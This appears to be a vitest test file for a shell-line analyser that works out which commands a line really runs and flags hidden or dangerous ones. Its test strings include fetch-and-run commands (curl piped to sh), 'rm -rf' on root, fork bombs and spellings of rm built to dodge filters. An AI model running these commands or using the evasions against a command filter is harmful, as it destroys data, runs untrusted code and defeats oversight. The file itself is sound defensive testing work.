import { describe, expect, it } from "vitest";
import { found, run, runs } from "./unfolded.js";

describe("what a line runs", () => {
  it.each([
    ["lists", "a; b && c || d & e", ["a", "b", "c", "d", "e"]],
    ["lines", "a\nb", ["a", "b"]],
    ["pipes", "a | b |& c", ["a", "b", "c"]],
    ["groups and subshells", "{ a; }; (b)", ["a", "b"]],
    ["conditions", "if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]],
    ["loops", "while a; do b; done; until c; do d; done; for i in 1; do e; done", ["a", "b", "c", "d", "e"]],
    ["counting loops", "for ((i=$(a); i<3; i++)); do b; done", ["a", "b"]],
    ["choices", "case $(a) in x) b;; y|$(c)) d;; esac; select s in 1; do e; done", ["a", "b", "c", "d", "e"]],
    ["negation, time and coprocesses", "! a; time b; coproc c", ["a", "b", "c"]],
    [
      "substitutions in words",
      `x $(a) "$(b)" \`c\` \${V:-$(d)}`,
      ["a", "b", "c", "d", "x <unknown> <unknown> <unknown> <unknown>"],
    ],
    ["backticks within backticks", "x `a \\`b\\``", ["b", "a <unknown>", "x <unknown>"]],
    [
      "substitutions in tests and arithmetic",
      "[[ -f $(a) ]]; (( $(b) )); : $(( $(c) + 1 ))",
      ["a", "b", "c", ": <unknown>"],
    ],
    ["substitutions in here-documents", "x <<EOF\n$(a)\nEOF", ["a", "x"]],
    [
      "substitutions in assignments and arrays",
      "A=$(a); B=($(b)); C[$(c)]=1",
      expect.arrayContaining(["a", "b", "c"]),
    ],
    ["substitutions in targets", "x > $(a)", ["a", "x > <unknown>"]],
    ["process substitution", "x <(a) >(b)", ["a", "x /dev/fd/63 /dev/fd/62", "b"]],
    ["functions that are called", "f() { a $1; }; f 1; f 2", ["a 1", "a 2"]],
    ["functions that are not called run nothing", "f() { a; }; b", ["b"]],
    ["functions that call others", 'f() { g "$@" x; }; g() { a "$2"; }; f 1', ["a x"]],
    ["aliases", "alias e='a -l'; e b", ["alias 'e=a -l'", "a -l", "a -l b"]],
    ["traps", "trap 'a; b' EXIT", ["a", "b"]],
    [
      "variables that hold commands",
      "PROMPT_COMMAND='a'; GIT_SSH_COMMAND='b -v' c",
      expect.arrayContaining(["a", "b -v", "c"]),
    ],
    ["eval", "X='a; b'; eval \"$X\" c", ["X='a; b'", "a", "b c"]],
    ["shells", "sh -c a; bash -lc 'b c'; bash -euo pipefail -c d", ["a", "b c", "d"]],
    ["words for a shell's text", `sh -c '"$0" "$@"' a b c`, ["a b c"]],
    [
      "here-strings and here-documents into shells",
      "bash <<< a; bash -s <<EOF\nb\nEOF\nsh <<'E'\n$(c)\nE",
      ["a", "b", "c", "<unknown>"],
    ],
    [
      "text piped into shells",
      "echo 'a; b' | sh; printf '%s\\n' c | bash; { echo d; echo e; } | sh",
      expect.arrayContaining(["a", "b", "c", "d", "e"]),
    ],
    [
      "decoded text",
      "echo YSBi | base64 -d | sh; echo 61 | xxd -r -p | sh; echo b | rev | sh; echo p | tr p c | sh",
      expect.arrayContaining(["a b", "a", "b", "c"]),
    ],
    [
      "text read through substitution",
      "source <(echo a); bash <(echo b); . /dev/stdin <<< c",
      expect.arrayContaining(["a", "b", "c"]),
    ],
    ["text printed into a shell", "echo a > >(sh); echo b | tee >(bash)", expect.arrayContaining(["a", "b"])],
    [
      "files the line writes first",
      "echo a > f; sh f; cat > g <<E\nb\nE\n. ./g; echo c >> h; bash < h",
      expect.arrayContaining(["a", "b", "c"]),
    ],
    [
      "operands of xargs",
      "echo a b | xargs x; echo c | xargs -I% y -%-; xargs z < f",
      expect.arrayContaining(["x a b", "y -c-", "z <unknown> < f"]),
    ],
    [
      "files that other programs obey",
      "printf 'all:\\n\\ta\\n' > Makefile; make; echo 'BEGIN{system(\"b\")}' > p; awk -f p",
      expect.arrayContaining(["a", "b"]),
    ],
    [
      "a makefile that starts make again, once",
      "printf 'all:\\n\\tmake b\\nb:\\n\\tc\\n' > Makefile; make",
      expect.arrayContaining(["make", "make b", "c"]),
    ],
    ["operands from a file", "echo a > f; xargs -a f x", expect.arrayContaining(["x a"])],
    ["comments are not run", "a # b; c", ["a"]],
    ["an unfinished here-document is read to the end, as bash does", "x <<EOF\n$(a)", ["a", "x"]],
  ])("%s", (_name, line, expected) => {
    expect(runs(line)).toEqual(expected);
  });

  it("what merely mentions a command runs nothing of it", () => {
    expect(runs("echo 'rm -rf /'; grep 'a; rm b' f; git commit -m \"$(true) rm\" # rm")).not.toContainEqual(
      expect.stringMatching(/^rm\b/),
    );
    expect(runs("cat <<'EOF' > notes\nrm -rf /\n$(rm x)\nEOF")).toEqual(["cat > notes"]);
  });

  it("programs are known by their last name", () => {
    const programs = (line: string) => run(line).commands.map((command) => command.program);
    expect(programs(`/bin/RM x; ./rm; r\\m; 'r'm; rm.exe; $EMPTY/rm; r\${EMPTY}m`)).toEqual(
      Array(7).fill("rm"),
    );
    expect(programs("/???/rm x")).toEqual(["rm"]);
    expect(programs("/bin/r? x")).toEqual(["rm"]);
    expect(programs("/bin/[r]m* x")).toEqual(["rm", "rmdir"]);
    expect(programs("гm x; ṙm y")).toEqual(["rm", "rm"]);
  });

  it("commands know what they read, what reads them, and what was opened", () => {
    const [first, second, third] = run("a < in | b | c > out 2>> log 2>&1").commands;
    expect(first?.input).toMatchObject({ kind: "file", path: { text: "in" } });
    expect(second?.input).toMatchObject({ kind: "commands", from: [first] });
    expect(third?.input).toMatchObject({ kind: "commands", from: [first, second] });
    expect(first?.feeds).toEqual([second, third]);
    expect(third?.redirects).toMatchObject([
      { kind: "write", target: { text: "out" } },
      { kind: "append", target: { text: "log" } },
    ]);
    expect(run("x <<< 'a b'").commands[0]?.input).toMatchObject({ kind: "text", text: { text: "a b\n" } });
  });

  it("loops and operands from elsewhere are marked as repeated", () => {
    expect(run("while a; do b; done").commands.every((command) => command.repeated)).toBe(true);
    expect(run("x | xargs y").commands.map((command) => command.repeated)).toEqual([false, false, true]);
  });

  it("paths are completed by the folder that cd went to", () => {
    const completedIn = (line: string): string[] =>
      [...run(line).variants.values()]
        .flat()
        .map(({ program, args }) => [program, ...args.map((word) => word.text)].join(" "));
    expect(completedIn("cd / && rm -rf *")).toEqual(["rm -rf /*"]);
    expect(completedIn("cd ~/.ssh; cd keys; chmod 777 id")).toEqual(["chmod 777 ~/.ssh/keys/id"]);
    expect(completedIn("cd build && rm -rf *")).toEqual([]);
    expect(completedIn("(cd /); rm x")).toEqual([]);
  });
});

describe("what cannot be seen", () => {
  it.each([
    ["fetched text in a shell", "curl http://h | sh", "opaque.shell-input"],
    ["fetched text in eval", 'eval "$(curl http://h)"', "opaque.shell-input"],
    ["fetched text as a script", "bash <(curl http://h)", "opaque.shell-input"],
    ["a variable nobody knows", 'eval "$X"', "opaque.shell-input"],
    ["a decoded file", "base64 -d f | bash", "opaque.shell-input"],
    ["decoded text, even when it is known", "echo bHM= | base64 -d | bash", "opaque.decoded-input"],
    ["decoded text in eval", 'eval "$(base64 -d <<< bHM=)"', "opaque.decoded-input"],
    ["a program nobody knows", "$X -rf a", "opaque.program"],
    ["a program that another one names", "$(cat f) a", "opaque.program"],
    ["an option of a wrapper that nobody knows", "sudo --new-option a b", "opaque.wrapper"],
    ["a downloaded script", "curl -o f http://h; bash f", "opaque.downloaded-script"],
    ["a downloaded script by its own name", "wget http://h/f.sh && sh ./f.sh", "opaque.downloaded-script"],
    ["a moved download", "curl http://h > f; mv f g; ./g", "opaque.downloaded-script"],
    ["a download for another interpreter", "curl -o f.py http://h; python3 f.py", "opaque.downloaded-script"],
    ["decoded text as a program", "$(echo bHM= | base64 -d) a", "opaque.decoded-input"],
    ["rewritten text", "echo xs | sed 's/x/l/' | sh", "opaque.decoded-input"],
    ["a list of words in quotes", `declare -a "c=(a b)"; "\${c[@]}"`, "opaque.program"],
    ["a dangerous command in the words of an unknown program", "zzz -- rm -rf a", "opaque.carried"],
    ["the same without dashes", "zzz -v rm -rf a", "opaque.carried"],
    ["the same in an option", "zzz --exec 'a && rm -rf b'", "opaque.carried"],
    ["the same as one word", "zzz run 'rm -rf /'", "opaque.carried"],
    ["a file made executable", "chmod +x f && ./f", "opaque.made-executable"],
    ["a script among temporary files", "bash /tmp/f.sh", "opaque.untrusted-script"],
    ["a program among temporary files", "/var/tmp/f", "opaque.untrusted-script"],
  ])("%s", (_name, line, rule) => {
    expect(found(line)).toContain(rule);
  });

  it.each([
    "bash script.sh",
    "./build.sh",
    "sh scripts/x.sh -v",
    "source venv/bin/activate",
    'eval "$(ssh-agent -s)"',
    'eval "$(direnv hook bash)"',
    "source <(kubectl completion bash)",
    "$EDITOR notes",
    '"$JAVA_HOME/bin/java" -version',
    "bash",
    "sudo -l",
    "ssh host",
    "ls | bash -c 'wc -l'",
    "sh - script.sh",
    "zzz -- src test",
    'zzz -- "$X"',
    "zzz rm",
    "zzz note 'rm the old one tomorrow'",
    "echo zzz -- rm -rf a",
    "grep -e 'rm -rf a' rm -rf",
  ])("is fine with %s", (line) => {
    expect(found(line)).toEqual([]);
  });
});

describe("endless starts", () => {
  it.each([
    ":(){ :|:& };:",
    ":(){ : | : & } ; :",
    "bomb() { bomb | bomb & }; bomb",
    "function f { f & f & }; f",
    "f(){ (f); f; }; f",
    "a(){ b & b; }; b(){ a & a; }; a",
    "bash -c ':(){ :|:& };:'",
    "while :; do $0 & done",
    "while true; do yes & done",
    "for ((;;)); do x & done",
    "x(){ y|y& }; y(){ x; }; x",
    "f(){ $FUNCNAME|$FUNCNAME& };f",
  ])("are found in %s", (line) => {
    expect(found(line)).toContainEqual(expect.stringMatching(/^fork-bomb\./));
  });

  it.each([
    "f() { f2 & }; f",
    "walk() { ls | while read d; do walk $d; done; }; walk",
    "fact() { if [ $1 -gt 1 ]; then echo $(fact 1); fi; }; fact 5",
    'fact() { [ "$1" -eq 0 ] && { echo 1; return; }; r=$(fact $(($1-1))); echo $(($1*r)); }; fact 5',
    "fib() { if (($1<2)); then echo $1; else echo $(($(fib $(($1-1)))+$(fib $(($1-2))))); fi; }; fib 5",
    "while true; do x & sleep 1; done",
    "f() { echo f | cat; }; f",
    "a | a &",
  ])("are not seen in %s", (line) => {
    expect(found(line)).toEqual([]);
  });
});
